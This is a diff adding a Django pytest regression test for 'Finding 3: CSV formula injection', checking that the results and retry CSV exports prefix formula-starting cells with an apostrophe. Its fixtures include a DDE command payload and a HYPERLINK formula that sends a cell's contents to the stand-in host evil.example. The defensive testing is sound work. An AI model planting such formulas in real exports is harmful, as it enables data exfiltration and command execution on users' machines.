@@ -89,3 +89,35 @@ def test_finding_2_error_codes_named_like_dict_methods_break_no_page(hostile_bat
         assert f"<code>{code}</code>" in detail  # the detail page's error groups
     confirmation = _page(operator_client, reverse("retries:confirm", args=[batch_id]), select="filter", code="keys")
     assert 'id="retry-count">1</strong>' in confirmation.content.decode()
+
+
+# --- Finding 3: CSV formula injection -------------------------------------------------------------------------------
+
+FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-1+1")
+ANSWERS = {"link": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "tab": "\t=1+2", "cr": "\r=1+3"}
+
+
+def _csv(response) -> list[dict]:
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.django_db
+def test_finding_3_exported_cells_never_start_a_formula(tmp_path, viewer_client):
+    outcomes = {formula: "ok" for formula in FORMULAS}
+    outcomes |= {name: ("ok", answer) for name, answer in ANSWERS.items()} | {"plain": ("ok", "1+1")}
+    batch = kept_batch(outcomes, tmp_path)
+    exports = {
+        "export.csv": viewer_client.get(reverse("results:export_csv", args=[batch.batch_id])),
+        "final.csv": viewer_client.get(reverse("retries:final_csv", args=[batch.batch_id])),
+    }
+    for name, response in exports.items():
+        rows = _csv(response)
+        expected_ids = ["'" + formula for formula in FORMULAS] + [*ANSWERS, "plain"]
+        assert [row["custom_id"] for row in rows] == expected_ids, name
+        answers = {row["custom_id"]: row["answer"] for row in rows}
+        assert {key: answers[key] for key in ANSWERS} == {key: "'" + answer for key, answer in ANSWERS.items()}, name
+        assert answers["plain"] == "1+1" and answers["'-1+1"] == "answer to -1+1", name
+        assert [row["line"] for row in rows] == [str(n) for n in range(1, 9)], name  # numbers stay numbers
+        assert {row["tokens"] for row in rows} == {"8"}, name
